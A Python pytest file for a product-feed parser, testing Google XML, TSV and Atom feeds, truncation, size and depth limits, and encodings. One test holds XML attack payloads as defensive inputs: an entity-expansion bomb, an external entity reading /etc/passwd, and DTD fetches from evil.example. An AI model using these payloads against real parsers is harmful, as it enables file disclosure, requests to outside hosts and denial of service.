from decimal import Decimal
from pathlib import Path

import pytest

from shoplens.errors import FeedError
from shoplens.feed.read import open_feed
from shoplens.types import Product
from small_feeds import SAMPLES, Take

HEAD = '<?xml version="1.0"?><rss xmlns:g="http://base.google.com/ns/1.0"><channel>'
ITEM = "<item><g:id>{0}</g:id><title>Shoe {0}</title><g:image_link>{0}.jpg</g:image_link></item>\n"


def test_every_attribute_of_an_item_arrives(take: Take) -> None:
    got = take(SAMPLES["google-xml"])
    assert got.feed.kind == "google-xml"
    assert got.reasons == []
    assert got.products[0] == Product(
        product_id="TV1",
        title="Television & stand",
        description="LCD",
        brand="Acme",
        category=("Home", "Electronics", "TVs"),
        group_id="TVS",
        price=Decimal("159.00"),
        sale_price=Decimal("99.00"),
        currency="USD",
        url="https://shop.example/tv",
        gtin="3234567890126",
        mpn="A-1",
        images=tuple(f"https://img.example/tv{n}.jpg" for n in ("", 2, 3)),
        attributes={"colour": ("Black", "Silver"), "size": ("55 in",)},
    )
    assert not got.products[1].in_stock
    assert got.products[1].category == ("Media", "DVDs")


def test_a_table_with_spaces_in_its_names_is_read_the_same_way(take: Take) -> None:
    got = take(SAMPLES["google-tsv"])
    assert got.feed.kind == "google-tsv"
    assert got.products[0].images == (
        "https://x.example/1.jpg", "https://x.example/2.jpg", "https://x.example/3,w_200.jpg",
    )  # fmt: skip
    assert [p.category for p in got.products] == [("A", "B"), ("A",)]
    assert {p.group_id for p in got.products} == {"g"}
    assert all(p.in_stock for p in got.products)


def test_an_atom_feed_is_read(take: Take) -> None:
    got = take(
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>7</id><title>Bag</title>'
        '<link href="https://a.example/7"/><image_link>7.png</image_link></entry></feed>'
    )
    assert (got.ids, got.products[0].url) == (["7"], "https://a.example/7")


def test_items_without_id_title_or_image_are_told_apart(take: Take) -> None:
    got = take(
        HEAD + "<item><title>A</title></item>\n<item><g:id>2</g:id></item>\n"
        "<item><g:id>3</g:id><title>C</title></item></channel></rss>"
    )
    assert got.ids == ["3"]
    assert got.reasons == [
        "item 1 (line 1): the product has no id",
        "item 2 (line 2): the product has no title",
        "item 3 (line 3): image_link is missing: the product can be found by words only",
    ]


def test_a_cut_feed_gives_its_whole_items_and_says_where_it_breaks_off(take: Take) -> None:
    got = take(HEAD + ITEM.format(1) + ITEM.format(2) + "<item><g:id>3</g:id><title>Sh")
    assert got.ids == ["1", "2"]
    assert len(got.rejections) == 1
    assert "line 3" in got.rejections[0].where
    assert "breaks off" in got.rejections[0].reason
    assert not got.feed.complete


@pytest.mark.parametrize(
    "dtd",
    [
        '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',
    ],
    ids=["bomb", "file", "parameter", "external-dtd"],
)
def test_entities_and_external_references_are_refused(take: Take, dtd: str) -> None:
    got = take(f'<?xml version="1.0"?>{dtd}<rss><item><id>1</id><title>&b;&x;</title></item></rss>')
    assert got.products == []
    assert not got.feed.complete


def test_control_characters_do_not_end_the_feed(take: Take) -> None:
    got = take(HEAD + ITEM.format(1).replace("Shoe", "Sh\x00o\x0be") + "</channel></rss>")
    assert [p.title for p in got.products] == ["Sh o e 1"]


def test_endless_tags_and_depths_end_the_feed_in_bounded_memory(take: Take) -> None:
    long_tag = take(HEAD + ITEM.format(1) + "<" + "a" * 6_000_000, name="long")
    assert (long_tag.ids, long_tag.feed.complete) == (["1"], False)
    assert "tag is longer" in long_tag.reasons[0]
    deep = take(HEAD + ITEM.format(1) + "<a>" * 100_000)
    assert (deep.ids, deep.feed.complete) == (["1"], False)
    assert "nested" in deep.reasons[0]


def test_a_too_long_item_costs_only_itself(take: Take) -> None:
    huge = ITEM.format(2).replace("Shoe", "x" * 5_000_000)
    got = take(HEAD + ITEM.format(1) + huge + ITEM.format(3) + "</channel></rss>")
    assert got.ids == ["1", "3"]
    assert got.rejections[0].where == "item 2 (line 2)"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "gb18030", "iso-8859-1"])
def test_a_declared_encoding_is_honoured(take: Take, encoding: str) -> None:
    title = "Größe é" if encoding == "iso-8859-1" else "连衣裙 é"
    text = f'<?xml version="1.0" encoding="{encoding}"?><rss>{ITEM.format(1)}</rss>'
    got = take(text.replace("Shoe 1", title).encode(encoding))
    assert [p.title for p in got.products] == [title]


def test_other_elements_can_be_mapped_by_hand(take: Take) -> None:
    item = ITEM.format(1).replace("</item>", "<g:custom>Kid</g:custom></item>")
    got = take(
        HEAD + item + "</channel></rss>", mapping={"attributes.age": "custom"}, kind="google-xml"
    )
    assert got.products[0].attributes == {"age": ("Kid",)}


def test_a_table_without_ids_is_an_error_that_names_its_columns(tmp_path: Path) -> None:
    path = tmp_path / "feed.tsv"
    path.write_text("title\tlink\timage_link\nA\tb\tc\n", encoding="utf-8")
    with pytest.raises(FeedError, match="no id; it has title, link, image_link"):
        open_feed(path, kind="google-tsv")


def test_a_prefixed_name_beats_a_bare_one(take: Take) -> None:
    item = ITEM.format(1).replace("</item>", "<id>https://a.example/1</id><dc:id>x</dc:id></item>")
    assert take(HEAD + item + "</channel></rss>").ids == ["1"]


def test_columns_of_a_table_are_mapped_by_the_names_they_have(take: Take) -> None:
    got = take(SAMPLES["google-tsv"], mapping={"brand": "item group id", "url": "image link"})
    assert got.feed.kind == "google-tsv"
    assert (got.products[0].brand, got.products[0].url) == ("g", "https://x.example/1.jpg")
